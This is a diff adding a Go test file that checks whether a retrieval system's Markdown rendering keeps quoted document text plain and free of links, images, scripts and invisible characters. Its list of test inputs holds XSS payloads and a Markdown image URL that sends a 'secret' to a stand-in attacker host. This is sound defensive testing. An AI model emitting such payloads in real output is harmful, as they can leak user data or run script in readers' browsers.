@@ -1,0 +1,114 @@
+package rag
+
+import (
+	"bytes"
+	"regexp"
+	"strings"
+	"testing"
+
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/extension"
+	"github.com/yuin/goldmark/renderer/html"
+)
+
+// lively renders Markdown as permissively as a page might: GitHub's additions,
+// links found in text, raw HTML let through.
+var lively = goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
+
+// allowed is what a rendered line of quoted text may consist of.
+var allowed = regexp.MustCompile(`</?(?:p|code)>`)
+
+func renderHTML(t *testing.T, markdown string) string {
+	t.Helper()
+	var b bytes.Buffer
+	if err := lively.Convert([]byte(markdown), &b); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
+
+// hostile is text of documents that wants to be more than text.
+var hostile = []string{
+	"![x](http://evil.example/?q=secret)", "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
+	"see http://evil.example/x now", "www.evil.example", "mail me@evil.example", "# Heading", "- item", "1. item", "> quote", "```", "~~~", "***", "---", "===",
+	"*bold* _it_ __b__ **b** ~~s~~", "a | b", "| a | b |", "[1]: http://evil.example", "[ref][1]", "&lt;b&gt; &#60;", `back\slash`, "``tick` ```", "(see [99])", "a [99] b",
+	"\u202eevil\u202c \u2066x\u2069 \u200b\U000E0041", "+ plus", "+", "10) x", "100.", "#", "##", "-", "=", "<!-- c -->", "https://x", "ftp://x.y", "xmpp:a@b.c", "a\x00b", "$math$", "@user", "[x] done", "- [ ] todo", "\u2028",
+	"[^1]", "a\\", "`", "$x`y`", "__init__", "user_name and my_var_", "f(a[0])", "\"[a](b)\"", "'<b>'", "(<b>)", "!", "![", "![a", "](b)", "!(b)", "text:![a](b)", "'![a](b)'",
+}
+
+func TestPlainStaysText(t *testing.T) {
+	t.Parallel()
+	for _, text := range hostile {
+		checkPlain(t, text)
+		checkPlain(t, "Words before "+text+" and after.")
+	}
+}
+
+func FuzzPlain(f *testing.F) {
+	for _, s := range hostile {
+		f.Add(s)
+	}
+	f.Fuzz(checkPlain)
+}
+
+// checkPlain holds that text shown by plain has no markup but code, no
+// invisible characters, and all of the text's letters and digits in order.
+func checkPlain(t *testing.T, text string) {
+	got := plain(text)
+	if strings.Contains(got, "\n") {
+		t.Fatalf("%q became several lines: %q", text, got)
+	}
+	page := renderHTML(t, got)
+	if rest := allowed.ReplaceAllString(page, ""); strings.ContainsAny(rest, "<>") {
+		t.Fatalf("%q became %q, shown as %q", text, got, page)
+	}
+	for m := range markersIn(got) {
+		t.Fatalf("%q shows the marker %v: %q", text, m.docs, got)
+	}
+	if want := strings.Join(strings.Fields(visible(text)), " "); strings.ReplaceAll(strings.ReplaceAll(got, "`", ""), `\`, "") !=
+		strings.ReplaceAll(strings.ReplaceAll(want, "`", ""), `\`, "") && !strings.Contains(want, "`") {
+		t.Fatalf("%q became %q", want, got)
+	}
+}
+
+func TestRenderHostileBlocks(t *testing.T) {
+	t.Parallel()
+	code := codeBlock("x := 1\n```\n<img src=x>\n````\n![a](http://evil)")
+	if page := renderHTML(t, code); strings.Contains(page, "<img") || strings.Count(page, "<pre>") != 1 {
+		t.Errorf("code became %q", page)
+	}
+	q := quote{sentence: sentence{kind: rowSentence}, text: "a | <b>x</b> ![i](http://evil) | c | d"}
+	got, _ := render([]quote{q}, []Result{{}})
+	if page := renderHTML(t, got); strings.Contains(page, "<b>") || strings.Contains(page, "<img") || strings.Count(page, "<td>") != 4 {
+		t.Errorf("row became %q shown as %q", got, page)
+	}
+	q = quote{sentence: sentence{kind: proseSentence}, text: "Yes.", label: "![i](http://evil) (x)", lead: true}
+	got, _ = render([]quote{q}, []Result{{}})
+	if page := renderHTML(t, got); strings.Contains(page, "<img") {
+		t.Errorf("label became %q", page)
+	}
+}
+
+func TestRenderTogether(t *testing.T) {
+	t.Parallel()
+	quotes := []quote{
+		{sentence: sentence{kind: proseSentence}, text: "Sets the memory.", label: "4.1. work_mem (integer)", lead: true},
+		{sentence: sentence{kind: proseSentence}, text: "The default is 4MB.", label: "4.1. work_mem (integer)", lead: true},
+		{sentence: sentence{kind: itemSentence, block: 1}, text: "- one"},
+		{sentence: sentence{kind: itemSentence, block: 2}, text: "- two"},
+		{sentence: sentence{kind: codeSentence, block: 3}, text: "SET x;", doc: 1},
+		{sentence: sentence{kind: rowSentence, block: 4, start: 12}, text: "b | 2", doc: 2},
+		{sentence: sentence{kind: rowSentence, block: 5, start: 18}, text: "c | 3", doc: 2},
+	}
+	results := []Result{{}, {}, {Passage: Passage{Chunk: Chunk{Kind: Table, Text: "name | size\nb | 2\nc | 3"}}}}
+	got, sentences := render(quotes, results)
+	want := "**work_mem (integer):** Sets the memory. [1] The default is 4MB. [1]\n\n- one [1]\n- two [1]\n\n```\nSET x;\n```\n[2]\n\n| name | size |\n| --- | --- |\n| b | 2 [3] |\n| c | 3 [3] |"
+	if got != want {
+		t.Errorf("got\n%s\nwant\n%s", got, want)
+	}
+	for i, s := range sentences {
+		if part := got[s.Start:s.End]; !strings.Contains(part, "["+string(rune('1'+quotes[i].doc))+"]") || strings.HasPrefix(part, "**") {
+			t.Errorf("sentence %d is %q", i, part)
+		}
+	}
+}
